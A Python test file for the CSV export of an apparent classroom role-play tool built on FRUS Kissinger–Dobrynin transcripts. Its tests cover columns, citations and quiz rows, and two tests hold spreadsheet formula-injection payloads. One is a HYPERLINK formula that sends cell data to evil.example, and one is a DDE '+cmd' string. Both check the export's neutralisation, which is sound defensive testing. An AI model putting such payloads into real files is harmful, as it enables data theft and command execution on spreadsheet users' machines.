"""The CSV export as a pure function of stored events: one row per exchange or quiz answer."""

import csv
import io

from server.export import CSV_COLUMNS, spreadsheet_safe, to_csv
from server.session_read import read_session
from server.store import Event, SessionSummary

SESSION = SessionSummary("s1", "Ada", "2026-11-28T20:00:00.00Z", None, 1, 0, 0)
CITATION = {
    "document": "frus1969-76v39/d107",
    "pages": [327, 328],
    "url": "https://history.state.gov/historicaldocuments/frus1969-76v39/d107",
}


def turn(index: int, speaker: str, clean_text: str) -> dict:
    return {"index": index, "speaker": speaker, "clean_text": clean_text, "pages": [327]}


def match(turn_index: int, said: str, reply: str, score: float) -> dict:
    return {
        "prompt": {
            "speaker": "kissinger",
            "text": said,
            "document": CITATION["document"],
            "turn": turn_index,
        },
        "reply": {
            "speaker": "dobrynin",
            "text": reply,
            "turns": [turn(turn_index + 1, "dobrynin", reply)],
        },
        "score": score,
        "citation": CITATION,
    }


def play_script(closeness: float) -> dict:
    """A play-through's point 10 of v39 d107, the student's line ``closeness`` to its line."""
    return {
        "document": "frus1969-76v39/d107",
        "position": 10,
        "said": turn(10, "kissinger", "We will have to think about it."),
        "closeness": closeness,
        "recorded_reply": [turn(11, "dobrynin", "Yeah, but this was my understanding.")],
        "citation": CITATION,
    }


def said_yes(status: str, shown: list[dict]) -> list[Event]:
    """Free play's "Yes.", answered with ``status`` and the lines ``shown``."""
    reply = {"query": "Yes.", "status": status, "matches": shown, "script": None}
    return [
        Event(1, "2026-11-28T20:00:01Z", "roleplay.start", {"as": "kissinger", "document": None}),
        Event(2, "2026-11-28T20:00:02Z", "line", {"text": "Yes."}),
        Event(3, "2026-11-28T20:00:03Z", "reply", reply),
    ]


def rows_of(events: list[Event], session: SessionSummary = SESSION) -> list[dict]:
    text = to_csv([(session, events)])
    assert text.startswith("\ufeff")
    reader = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    return list(reader)


def test_play_through_row_carries_the_recorded_line_and_reply_the_student_was_shown() -> None:
    nearest_elsewhere = match(3, "Another call's line.", "A line from another call.", 0.8)
    nearest_elsewhere["citation"] = {**CITATION, "document": "frus1969-76v13/d63"}
    script = play_script(0.91)
    events = [
        Event(
            1,
            "2026-11-28T20:00:01.00Z",
            "roleplay.start",
            {"as": "kissinger", "document": "frus1969-76v39/d107"},
        ),
        Event(2, "2026-11-28T20:00:04.00Z", "line", {"text": "We shall think.", "position": 10}),
        Event(
            3,
            "2026-11-28T20:00:05.25Z",
            "reply",
            {
                "query": "We shall think.",
                "status": "match",
                "score": 0.8,
                "matches": [nearest_elsewhere],
                "script": script,
            },
        ),
    ]
    [row] = rows_of(events)
    assert (row["activity"], row["line"], row["matched_line"], row["turn"], row["score"]) == (
        "play",
        "We shall think.",
        "We will have to think about it.",
        "10",
        "0.91",
    )
    assert row["doc_line"] == "11"
    assert (row["reply"], row["document"], row["pages"], row["at"]) == (
        "Yeah, but this was my understanding.",
        "frus1969-76v39/d107",
        "327 328",
        "2026-11-28T20:00:05.25Z",  # in UTC, and saying so, as the JSON export does
    )


def test_doc_line_numbers_the_recorded_line_as_the_pages_do() -> None:
    """The pages say "vol. XXXIX, doc. 107, line 5" where ``turn`` is 4: a teacher reading the
    CSV beside them was off by one (found by the teacher's walk). ``turn`` stays as it was,
    for what already reads it; ``doc_line`` after it counts from 1."""
    events = said_yes("match", [match(4, "Yes.", "Then we agree.", 0.9)])
    header, row, end = to_csv([(SESSION, events)]).lstrip("\ufeff").split("\r\n")
    assert header == (
        "session,student,at,at_utc,activity,line,status,matched_line,reply,score,closeness_word,document,turn,"
        "doc_line,pages,date,source,url,citation,question_before_speaker,question_before,question_speaker,question,"
        "answer,right_answer,right_answer_speaker,correct,level,as,chosen_by,suggestions,"
        "picked,scenario,elsewhere,reason,names,threshold,strict,editorial,suggested_turns,"
        "suggested_citations,correction,picks,unreadable,stored"
    )
    assert row == (
        "s1,Ada,2026-11-28T20:00:03Z,2026-11-28 20:00:03,free,Yes.,match,Yes.,Then we agree.,0.9,"
        "very close,"
        "frus1969-76v39/d107,4,5,327 328,,,"
        "https://history.state.gov/historicaldocuments/frus1969-76v39/d107,"
        '"vol. XXXIX, doc. 107, pp. 327–328, line 5",,,,,,,,,,kissinger,'
        "search,,,,,,,,,,,,,,,"
    )
    assert end == ""
    refused = said_yes("no_match", [])
    assert (rows_of(refused)[0]["turn"], rows_of(refused)[0]["doc_line"]) == ("", "")


def test_refused_line_has_no_reply_and_a_pick_fills_it_in() -> None:
    offered = [
        match(4, "Don't pull tricks on me.", "I never do.", 0.41),
        match(8, "About the summit.", "It is in Moscow.", 0.39),
    ]
    events = [
        Event(1, "2026-11-28T20:00:01Z", "roleplay.start", {"as": "kissinger", "document": None}),
        Event(2, "2026-11-28T20:00:02Z", "line", {"text": "whats for lunch"}),
        Event(
            3,
            "2026-11-28T20:00:03Z",
            "reply",
            {
                "query": "whats for lunch",
                "status": "no_match",
                "score": 0.41,
                "matches": offered,
                "script": None,
            },
        ),
        Event(4, "2026-11-28T20:00:09Z", "line", {"text": '=HYPERLINK("http://x")'}),
        Event(
            5,
            "2026-11-28T20:00:10Z",
            "reply",
            {
                "query": '=HYPERLINK("http://x")',
                "status": "no_match",
                "matches": [],
                "suggestions": offered,
                "script": None,
            },
        ),
        Event(6, "2026-11-28T20:00:12Z", "pick", {"suggestion": 1}),
        Event(
            7,
            "2026-11-28T20:00:12Z",
            "reply",
            {
                "query": '=HYPERLINK("http://x")',
                "status": "picked",
                "matches": [offered[1]],
                "script": None,
            },
        ),
    ]
    refused, picked = rows_of(events, SessionSummary("s1", "+Ada", "", None, 2, 0, 0))
    assert (refused["status"], refused["reply"], refused["matched_line"], refused["score"]) == (
        "no_match",
        "",
        "",
        "0.41",
    )
    assert refused["suggestions"] == "Don't pull tricks on me. | About the summit."
    turns = "frus1969-76v39/d107#4 | frus1969-76v39/d107#8"
    assert refused["suggested_turns"] == picked["suggested_turns"] == turns
    assert refused["student"] == "'+Ada"
    assert (picked["status"], picked["picked"], picked["chosen_by"], picked["reply"]) == (
        "picked",
        "1",
        "student",
        "It is in Moscow.",
    )
    assert picked["line"] == '\'=HYPERLINK("http://x")'
    assert refused["scenario"] == picked["scenario"] == ""  # the whole record


def test_the_closeness_word_column_says_each_score_as_the_student_read_it() -> None:
    """The JSON export had each score's word (``closeness_word``, server.closeness) and the CSV
    only the number: beside ``score``, its word, as the reply sent it or, stored before it did,
    from the score; empty where ``score`` is, and on a quiz row."""
    loose = match(4, "Yes.", "Then we agree.", 0.5499)  # 54%: under the bar of "close"
    sent = {**match(6, "No.", "Then we do not.", 0.62), "closeness_word": "close"}
    script = play_script(0.35)
    events = [
        *said_yes("match", [loose]),
        Event(4, "2026-11-28T20:00:04Z", "line", {"text": "No."}),
        Event(
            5,
            "2026-11-28T20:00:05Z",
            "reply",
            {"query": "No.", "status": "match", "matches": [sent]},
        ),
        Event(6, "2026-11-28T20:00:06Z", "line", {"text": "zxqv"}),
        Event(
            7,
            "2026-11-28T20:00:07Z",
            "reply",
            {"query": "zxqv", "status": "no_match", "matches": []},
        ),
        Event(
            8,
            "2026-11-28T20:00:08Z",
            "roleplay.start",
            {"as": "kissinger", "document": "frus1969-76v39/d107"},
        ),
        Event(9, "2026-11-28T20:00:09Z", "line", {"text": "We shall see.", "position": 10}),
        Event(
            10,
            "2026-11-28T20:00:10Z",
            "reply",
            {"query": "We shall see.", "status": "no_match", "matches": [], "script": script},
        ),
    ]
    rows = rows_of(events)
    assert [(r["score"], r["closeness_word"]) for r in rows] == [
        ("0.5499", "loosely related"),
        ("0.62", "close"),
        ("", ""),
        ("0.35", "distant"),
    ]
    # the JSON export's words, as its exchanges are read (session_json)
    read = read_session(SESSION.id, SESSION.student, events)
    assert [r["closeness_word"] for r in rows] == [x.closeness_word or "" for x in read.exchanges]


def test_an_answer_row_is_cited_as_the_student_read_it_with_date_and_archive() -> None:
    """The row cited the answer by document, pages and link; the date and the archival source
    the student read under the reply were only in the JSON export. vol. XII, doc. 189 as the
    shipped record cites it; a document with no dateline leaves the date empty, never guessed."""
    leaving = match(13, "When are you leaving?", "Tomorrow night.", 1.0)
    leaving["citation"] = {
        "document": "frus1969-76v12/d189",
        "pages": [582],
        "date": "1970-07-28T15:25:00-04:00",
        "source": "Source: Library of Congress, Manuscript Division, Kissinger Papers, Box 364, "
        "Telephone Conversations, Chronological File. No classification marking.",
        "url": "https://history.state.gov/historicaldocuments/frus1969-76v12/d189",
    }
    undated = {**match(4, "Yes.", "Then we agree.", 0.9), "citation": {**CITATION, "date": None}}
    (row,) = rows_of(said_yes("match", [leaving]))
    (other,) = rows_of(said_yes("match", [undated]))
    cited = ("document", "pages", "date", "source", "url")
    assert [row[c] for c in cited] == [
        "frus1969-76v12/d189",
        "582",
        "1970-07-28T15:25:00-04:00",
        leaving["citation"]["source"],
        "https://history.state.gov/historicaldocuments/frus1969-76v12/d189",
    ]
    assert (other["date"], other["source"]) == ("", "")


def test_a_pick_after_an_answer_lists_the_lines_shown_it_was_chosen_from() -> None:
    """The suggestions cell was empty for a pick after an answer, as if from nothing."""
    shown = [
        match(2, "Yes.", "Then we agree.", 0.93),
        match(6, "Yes, yes.", "Good.", 0.92),
        match(9, "Yes!", "I will tell Moscow so.", 0.91),
    ]
    events = [
        *said_yes("ambiguous", shown),
        Event(4, "2026-11-28T20:00:09Z", "pick", {"suggestion": 2}),
        Event(
            5,
            "2026-11-28T20:00:10Z",
            "reply",
            {"query": "Yes.", "status": "picked", "matches": [shown[2]], "script": None},
        ),
    ]
    [row] = rows_of(events)
    assert (row["status"], row["picked"], row["matched_line"], row["reply"]) == (
        "picked",
        "2",
        "Yes!",
        "I will tell Moscow so.",
    )
    # the lines shown with the answer, the search's first: `picked` indexes them
    assert row["suggestions"] == "Yes. | Yes, yes. | Yes!"
    assert row["suggestions"].split(" | ")[int(row["picked"])] == row["matched_line"]
    assert row["suggested_turns"] == " | ".join(f"{CITATION['document']}#{n}" for n in (2, 6, 9))


# Two lines of vol. XII, doc. 188 as the shipped record prints them: turn 13 and its reply on
# p. 580; turn 15 on p. 580, its reply (turn 16) on p. 581.
D188 = "frus1969-76v12/d188"
ASKED_WHEN = "I appreciate all of this—how long will you be gone?"
NO_EXCEPT = "No, except we are going to try to apply them in a constructive spirit."


def test_each_offered_line_is_cited_as_a_reader_finds_it_in_frus() -> None:
    """``suggested_turns`` said ``frus1969-76v12/d188#13``, which a teacher reading the file in
    a spreadsheet could not find in FRUS; ``suggested_citations`` cites each line offered as
    the student read it under the line (volume, document, its pages and its reply's), and the
    line as the pages count it, in the same order."""

    def offered(turn_index: int, said: str, pages: list[int]) -> dict:
        url = f"https://history.state.gov/historicaldocuments/{D188}"
        citation = {"document": D188, "number": 188, "pages": pages, "url": url}
        return {
            **match(turn_index, said, "…", 0.4),
            "prompt": {"speaker": "kissinger", "text": said, "document": D188, "turn": turn_index},
            "citation": citation,
        }

    lines = [offered(13, ASKED_WHEN, [580]), offered(15, NO_EXCEPT, [580, 581])]
    refusal = {
        "query": "when are you back from moscow, anatol?",
        "status": "no_match",
        "matches": [],
        "suggestions": lines,
        "reason": "weak",
    }
    events = [
        Event(1, "2026-11-28T20:00:01Z", "roleplay.start", {"as": "kissinger", "document": None}),
        Event(2, "2026-11-28T20:00:02Z", "line", {"text": refusal["query"]}),
        Event(3, "2026-11-28T20:00:03Z", "reply", refusal),
        Event(4, "2026-11-28T20:00:09Z", "pick", {"suggestion": 1}),
        Event(
            5,
            "2026-11-28T20:00:10Z",
            "reply",
            {**refusal, "status": "picked", "matches": [lines[1]], "suggestions": [], "picked": 1},
        ),
    ]
    [row] = rows_of(events)
    assert row["suggested_turns"] == f"{D188}#13 | {D188}#15"
    assert row["suggested_citations"] == (
        "vol. XII, doc. 188, p. 580, line 14 | vol. XII, doc. 188, pp. 580–581, line 16"
    )
    assert (row["pages"], row["doc_line"]) == ("580 581", "16")  # the picked line's, as ever
    refused = said_yes("no_match", [])
    assert rows_of(refused)[0]["suggested_citations"] == ""


def _refused_then_picked_twice() -> list[Event]:
    """A refusal offering three lines, the student picking the third, then the first."""
    offered = [
        match(4, "Don't pull tricks on me.", "I never do.", 0.41),
        match(8, "About the summit.", "It is in Moscow.", 0.39),
        match(12, "Call me tomorrow.", "I will.", 0.37),
    ]
    refusal = {"query": "whats new", "status": "no_match", "matches": [], "suggestions": offered}

    def picked(n: int) -> dict:
        return {"query": "whats new", "status": "picked", "matches": [offered[n]], "picked": n}

    return [
        Event(1, "2026-11-28T20:00:01Z", "roleplay.start", {"as": "kissinger", "document": None}),
        Event(2, "2026-11-28T20:00:02Z", "line", {"text": "whats new"}),
        Event(3, "2026-11-28T20:00:03Z", "reply", refusal),
        Event(4, "2026-11-28T20:00:09.500Z", "pick", {"suggestion": 2, "query": "whats new"}),
        Event(5, "2026-11-28T20:00:09.512Z", "reply", picked(2)),
        Event(6, "2026-11-28T20:00:21.250Z", "pick", {"suggestion": 0, "query": "whats new"}),
        Event(7, "2026-11-28T20:00:21.262Z", "reply", picked(0)),
    ]


def test_every_pick_of_one_offer_is_in_the_row_in_order_with_when() -> None:
    """Two lines picked in turn from one refusal's offer: the row said only the last, as if the
    student had not heard the first's reply."""
    [row] = rows_of(_refused_then_picked_twice())
    assert (row["status"], row["picked"], row["matched_line"], row["reply"]) == (
        "picked",
        "0",
        "Don't pull tricks on me.",
        "I never do.",
    )
    assert row["picks"] == (
        "2 frus1969-76v39/d107#12 2026-11-28T20:00:09.500Z | "
        "0 frus1969-76v39/d107#4 2026-11-28T20:00:21.250Z"
    )
    unpicked = rows_of(_refused_then_picked_twice()[:3])
    assert (unpicked[0]["status"], unpicked[0]["picks"]) == ("no_match", "")


def test_an_exchange_reads_every_pick_with_what_followed_it() -> None:
    """As the JSON export and the transcript write an exchange (the API test, test_pick.py,
    reads it so from a real session)."""
    from server.session_read import read_session

    [read] = read_session("s1", "Ada", _refused_then_picked_twice()).exchanges
    exchange = read.model_dump(by_alias=True)
    assert (exchange["seq"], exchange["picked"], exchange["before_pick"]) == (3, 0, "no_match")
    assert [
        (p["seq"], p["at"], p["picked"], p["matched"]["turn"], p["reply"]["text"], p["score"])
        for p in exchange["picks"]
    ] == [
        (5, "2026-11-28T20:00:09.500Z", 2, 12, "I will.", 0.37),
        (7, "2026-11-28T20:00:21.250Z", 0, 4, "I never do.", 0.41),
    ]
    last = exchange["picks"][-1]
    assert (exchange["matched"], exchange["reply"], exchange["citation"]) == (
        last["matched"],
        last["reply"],
        last["citation"],
    )
    assert exchange["picks"][0]["matched"]["text"] == "Call me tomorrow."


def test_an_ambiguous_answer_lists_the_lines_shown_beside_it_with_their_turns() -> None:
    """Unpicked, its suggestions cell was empty though the page offered the lines to pick;
    two offered lines that read the same are told apart by their turns."""
    shown = [match(2, "Yes.", "Then we agree.", 0.93), match(6, "Yes.", "Good.", 0.92)]
    shown[1]["prompt"]["document"] = "frus1969-76v13/d63"
    events = said_yes("ambiguous", shown)
    [row] = rows_of(events)
    assert (row["status"], row["picked"], row["matched_line"], row["reply"]) == (
        "ambiguous",
        "",
        "Yes.",
        "Then we agree.",
    )
    assert row["suggestions"] == "Yes. | Yes."
    assert row["suggested_turns"] == "frus1969-76v39/d107#2 | frus1969-76v13/d63#6"


def test_an_answer_with_nothing_offered_lists_no_lines() -> None:
    shown = [match(2, "Yes.", "Then we agree.", 0.93), match(6, "Yes, yes.", "Good.", 0.62)]
    events = said_yes("match", shown)
    [row] = rows_of(events)
    assert (row["status"], row["suggestions"], row["suggested_turns"]) == ("match", "", "")


def test_a_row_says_the_scenario_its_role_play_answered_from() -> None:
    """A refusal within a scenario searched only its conversations, in free play and playing
    a conversation through alike: the row says which."""
    start = {"as": "kissinger", "document": None}
    played = {"as": "kissinger", "document": "frus1969-76v32/d143"}
    refusal = {"query": "Berlin?", "status": "no_match", "matches": [], "script": None}
    events = [
        Event(1, "2026-11-28T20:00:01Z", "roleplay.start", {**start, "scenario": "topic:salt"}),
        Event(2, "2026-11-28T20:00:02Z", "line", {"text": "Berlin?"}),
        Event(3, "2026-11-28T20:00:03Z", "reply", refusal),
        Event(4, "2026-11-28T20:00:04Z", "roleplay.start", {**start, "scenario": None}),
        Event(5, "2026-11-28T20:00:05Z", "line", {"text": "Berlin?"}),
        Event(6, "2026-11-28T20:00:06Z", "reply", refusal),
        Event(7, "2026-11-28T20:00:07Z", "roleplay.start", {**played, "scenario": "topic:salt"}),
        Event(8, "2026-11-28T20:00:08Z", "line", {"text": "Berlin?"}),
        Event(9, "2026-11-28T20:00:09Z", "reply", refusal),
    ]
    within, whole, playing = rows_of(events, SessionSummary("s1", "Ada", "", None, 3, 0, 0))
    assert (within["status"], within["scenario"]) == ("no_match", "topic:salt")
    assert (whole["status"], whole["scenario"]) == ("no_match", "")
    assert (playing["status"], playing["scenario"]) == ("no_match", "topic:salt")


def test_a_refusal_within_a_scenario_says_what_answers_it_outside() -> None:
    """The reply named the conversation outside the scenario that answers the line (or that
    none does), and the transcript and struggles list say it: the row says it too, so a
    teacher sorting refusals tells a scope set too narrow from a line nothing answers."""
    start = {"as": "kissinger", "document": None, "scenario": "topic:salt"}
    outside = {
        "document": "frus1969-76v40/d300",
        "topic": "Berlin access talks",
        "editorial": True,
        "citation": {
            **CITATION,
            "document": "frus1969-76v40/d300",
            "title": "Conversation Between Kissinger and Dobrynin",
            "volume_title": None,
            "number": 300,
            "date": None,
            "source": None,
            "excerpt": False,
        },
    }
    refusal = {"query": "Berlin?", "status": "no_match", "matches": [], "script": None}
    events = [
        Event(1, "2026-11-28T20:00:01Z", "roleplay.start", start),
        Event(2, "2026-11-28T20:00:02Z", "line", {"text": "Berlin?"}),
        Event(
            3,
            "2026-11-28T20:00:03Z",
            "reply",
            {**refusal, "elsewhere": outside, "searched_outside": True},
        ),
        Event(4, "2026-11-28T20:00:04Z", "line", {"text": "lunch?"}),
        Event(
            5,
            "2026-11-28T20:00:05Z",
            "reply",
            {**refusal, "query": "lunch?", "searched_outside": True},
        ),
        Event(6, "2026-11-28T20:00:06Z", "line", {"text": "Berlin?"}),
        Event(7, "2026-11-28T20:00:07Z", "reply", refusal),  # stored before it was searched
    ]
    answered, nothing, unknown = rows_of(events, SessionSummary("s1", "Ada", "", None, 3, 0, 0))
    assert (answered["scenario"], answered["elsewhere"]) == ("topic:salt", "frus1969-76v40/d300")
    assert (nothing["line"], nothing["elsewhere"]) == ("lunch?", "none")
    assert unknown["elsewhere"] == ""


def test_quiz_row_has_texts_not_letters() -> None:
    choices = [
        {"id": "a", "speaker": "dobrynin", "text": "I think it would be possible."},
        {"id": "b", "speaker": "dobrynin", "text": "But you see I am afraid."},
    ]
    prompt = {
        "speaker": "kissinger",
        "text": "If you withdraw your troops...",
        "document": CITATION["document"],
        "turn": 44,
    }
    events = [
        Event(
            1,
            "2026-11-28T20:01:00Z",
            "quiz.question",
            {
                "quiz": "z1",
                "id": "q1",
                "mode": "what_next",
                "prompt": prompt,
                "choices": choices,
                "answer": "b",
            },
        ),
        Event(2, "2026-11-28T20:01:00Z", "quiz.answer", {"quiz": "z1", "id": "q1", "answer": "a"}),
        Event(
            3,
            "2026-11-28T20:01:05Z",
            "quiz.result",
            {
                "quiz": "z1",
                "id": "q1",
                "correct": False,
                "given": "a",
                "answer": "b",
                "citation": CITATION,
                "prompt": prompt,
            },
        ),
    ]
    [row] = rows_of(events)
    assert (row["activity"], row["question"], row["answer"], row["right_answer"]) == (
        "quiz.what_next",
        "If you withdraw your troops...",
        "I think it would be possible.",
        "But you see I am afraid.",
    )
    assert (row["correct"], row["turn"], row["line"], row["status"]) == ("false", "44", "", "")
    assert row["doc_line"] == "45"  # the line asked about, counted from 1 too
    assert row["level"] == ""  # a "What came next?" has no difficulty to choose


def test_spreadsheet_safe_neutralises_every_formula_start() -> None:
    for dangerous in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet_safe(dangerous) == "'" + dangerous
    assert spreadsheet_safe("Anatol, two things") == "Anatol, two things"


def test_formulas_are_neutralised_in_every_text_column_even_behind_spaces() -> None:
    payloads = ('=HYPERLINK("http://evil.example/?x="&A2,"y")', "+cmd|' /C calc'!A0", "  =1+1")
    for payload in payloads:
        session = SessionSummary("s1", payload, "2026-11-28T20:00:00.00Z", None, 1, 0, 0)
        events = [
            Event(1, "2026-11-28T20:00:01.00Z", "roleplay.start", {"as": "kissinger"}),
            Event(2, "2026-11-28T20:00:04.00Z", "line", {"text": payload, "position": None}),
            Event(
                3,
                "2026-11-28T20:00:05.00Z",
                "reply",
                {"query": payload, "status": "no_match", "score": None, "matches": []},
            ),
        ]
        [row] = rows_of(events, session)
        assert (row["student"], row["line"]) == ("'" + payload, "'" + payload)
    assert spreadsheet_safe(-0.05) == -0.05  # numbers stay numbers


def test_a_refusal_row_says_why_and_the_students_words_behind_it() -> None:
    """``reason`` and ``names`` come after the older columns (then the bar the line was held
    to), so a spreadsheet built on the older columns still reads; an answered line leaves them
    empty."""
    said = "The Chinese will protest about Cuba."
    both = "What about Jordan and Cuba?"
    offered = [match(52, "The Chinese will protest.", "Yes.", 0.71)]

    def refusal(query: str, names: list[str]) -> dict:
        return {
            "query": query,
            "status": "no_match",
            "reason": "unheld",
            "names": names,
            "matches": [],
            "suggestions": offered,
            "script": None,
        }

    answered = match(0, "Anatol, two things.", "Yes.", 0.83)
    events = [
        Event(1, "2026-11-28T20:00:01.00Z", "roleplay.start", {"as": "kissinger"}),
        Event(2, "2026-11-28T20:00:02.00Z", "line", {"text": said}),
        Event(3, "2026-11-28T20:00:03.00Z", "reply", refusal(said, ["Cuba"])),
        Event(4, "2026-11-28T20:00:04.00Z", "line", {"text": both}),
        Event(5, "2026-11-28T20:00:05.00Z", "reply", refusal(both, ["Jordan", "Cuba"])),
        Event(6, "2026-11-28T20:00:06.00Z", "line", {"text": "Anatol, two things."}),
        Event(
            7,
            "2026-11-28T20:00:07.00Z",
            "reply",
            {"query": "Anatol, two things.", "status": "match", "matches": [answered]},
        ),
    ]
    assert CSV_COLUMNS[-12:-7] == ("elsewhere", "reason", "names", "threshold", "strict")
    refused, twice, matched = rows_of(events)
    assert [refused[c] for c in ("line", "status", "reply", "suggestions", "reason", "names")] == [
        said,
        "no_match",
        "",
        "The Chinese will protest.",
        "unheld",
        "Cuba",
    ]
    assert (twice["reason"], twice["names"]) == ("unheld", "Jordan; Cuba")
    assert (matched["status"], matched["reason"], matched["names"]) == ("match", "", "")


FORMER = "On this formal (former?) thing, it’s not my business at all."  # v13 d322 turn 16
LAUGHTER = "But really I am afraid you will not. (laughter) You said it as a trick behind us."


def test_the_editorial_column_names_the_marks_a_parenthesis_hides() -> None:
    """In a cell, Dobrynin's "(former?)" (a transcriber's query) and "(laughter)" read as his
    words; the pages show them as editorial. The cells keep them verbatim, in place; the
    last column names them, here for an exchange stored before spans were kept beside its
    lines (found in the text by the parser's rule) and a quiz answer."""
    old = match(16, FORMER, "Tell Gromyko to handle normally.", 0.7)
    old["prompt"]["speaker"] = "dobrynin"
    asked = {"speaker": "kissinger", "text": "No, we will accept it. Try us.", "turn": 50}
    laughing = {"start": 37, "end": 47, "kind": "stage", "text": "(laughter)"}
    choices = [
        {"id": "a", "speaker": "dobrynin", "text": LAUGHTER, "editorial": [laughing]},
        {"id": "b", "speaker": "dobrynin", "text": FORMER},  # stored before spans were
    ]
    events = [
        Event(1, "2026-11-28T20:00:01Z", "roleplay.start", {"as": "dobrynin"}),
        Event(2, "2026-11-28T20:00:02Z", "line", {"text": "About the former thing."}),
        Event(
            3,
            "2026-11-28T20:00:03Z",
            "reply",
            {"query": "About the former thing.", "status": "match", "matches": [old]},
        ),
        Event(
            4,
            "2026-11-28T20:01:00Z",
            "quiz.question",
            {"quiz": "z1", "id": "q1", "mode": "what_next", "prompt": asked, "choices": choices},
        ),
        Event(
            5,
            "2026-11-28T20:01:05Z",
            "quiz.result",
            {"quiz": "z1", "id": "q1", "correct": False, "given": "b", "answer": "a"},
        ),
    ]
    exchange, quiz = rows_of(events)
    assert (exchange["matched_line"], exchange["editorial"]) == (FORMER, "(former?)")
    assert (quiz["answer"], quiz["right_answer"]) == (FORMER, LAUGHTER)
    # the answer given's mark, then the right answer's
    assert quiz["editorial"] == "(former?) | (laughter)"


def test_the_correction_column_names_the_correction_that_answered_or_refused() -> None:
    """A line answered by the instructor's correction 3, another refused by correction 4 and
    then one of its offered lines picked: the rows said `chosen_by` "instructor" and reason
    "instructor", never which of the class's corrections (the corrections list numbers them by
    their ids), so a teacher could not tell which correction a row came from."""
    corrected = {**match(4, "Yes.", "Then we agree.", 1.0), "chosen_by": "instructor"}
    corrected["correction"] = 3
    offered = [match(8, "About the summit.", "It is in Moscow.", 0.41)]
    refusal = {
        "query": "How was your vacation?",
        "status": "no_match",
        "matches": [],
        "suggestions": offered,
        "reason": "instructor",
        "correction": 4,
    }
    events = [
        Event(1, "2026-11-28T20:00:01Z", "roleplay.start", {"as": "kissinger", "document": None}),
        Event(2, "2026-11-28T20:00:02Z", "line", {"text": "Yes."}),
        Event(
            3,
            "2026-11-28T20:00:03Z",
            "reply",
            {"query": "Yes.", "status": "match", "matches": [corrected], "script": None},
        ),
        Event(4, "2026-11-28T20:00:04Z", "line", {"text": "How was your vacation?"}),
        Event(5, "2026-11-28T20:00:05Z", "reply", refusal),
        Event(6, "2026-11-28T20:00:06Z", "pick", {"suggestion": 0}),
        Event(
            7,
            "2026-11-28T20:00:07Z",
            "reply",
            {
                "query": "How was your vacation?",
                "status": "picked",
                "matches": offered,
                "script": None,
            },
        ),
        Event(8, "2026-11-28T20:00:08Z", "line", {"text": "Yes."}),
        Event(
            9,
            "2026-11-28T20:00:09Z",
            "reply",
            {
                "query": "Yes.",
                "status": "match",
                "matches": [match(4, "Yes.", "Then we agree.", 0.9)],
                "script": None,
            },
        ),
    ]
    rows = rows_of(events)
    assert [(r["status"], r["chosen_by"], r["reason"], r["correction"]) for r in rows] == [
        ("match", "instructor", "", "3"),
        ("picked", "student", "instructor", "4"),
        ("match", "search", "", ""),
    ]


def _documented_rows() -> list[dict]:
    """The rows of docs/protocol.md's CSV example, by column."""
    from pathlib import Path

    doc = (Path(__file__).resolve().parents[2] / "docs" / "protocol.md").read_text()
    start = doc.index("\nsession,student,at,at_utc,activity,line,status,") + 1
    reader = csv.DictReader(io.StringIO(doc[start : doc.index("```", start)]))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    return list(reader)


def test_the_documented_refused_rows_are_what_the_server_writes() -> None:
    """docs/protocol.md's example gave the two refused rows a score (0.38, 0.41) the server does
    not write: a refusal is stored with no matches and no score (the lines offered are
    suggestions, never an answer), so its cell is empty, as its transcript card shows none.
    Each documented refused row is the row this export writes for the refusal it describes,
    stored as the server stores one today."""
    offered = {"Yes.": 20, "No, we will not push it.": 24, "The Chinese will protest.": 52}
    # the pages the shipped record prints each on, with its reply: the citation read under it
    printed = {20: [328], 24: [328], 52: [329]}

    def suggestion(text: str) -> dict:
        said = {"speaker": "kissinger", "text": text, "document": CITATION["document"]}
        turn_index = offered[text]
        return {
            **match(turn_index, text, "…", 0.3),
            "prompt": {**said, "turn": turn_index},
            "citation": {**CITATION, "pages": printed[turn_index]},
        }

    for row in _documented_rows():
        if row["status"] != "no_match":
            continue
        stored = {
            "query": row["line"],
            "status": "no_match",
            "matches": [],
            "suggestions": [suggestion(text) for text in row["suggestions"].split(" | ")],
            "reason": row["reason"],
            "names": row["names"].split("; ") if row["names"] else [],
            "score": None,  # session_roleplay stores the best match's: a refusal has none
            "threshold": 0.7,  # the server's threshold, as the example's rows say
            "strict": False,
        }
        events = [
            Event(1, row["at"], "roleplay.start", {"as": "kissinger", "document": None}),
            Event(2, row["at"], "line", {"text": row["line"]}),
            Event(3, row["at"], "reply", stored),
        ]
        summary = SessionSummary(row["session"], row["student"], row["at"], None, 1, 0, 0)
        assert rows_of(events, summary) == [row]
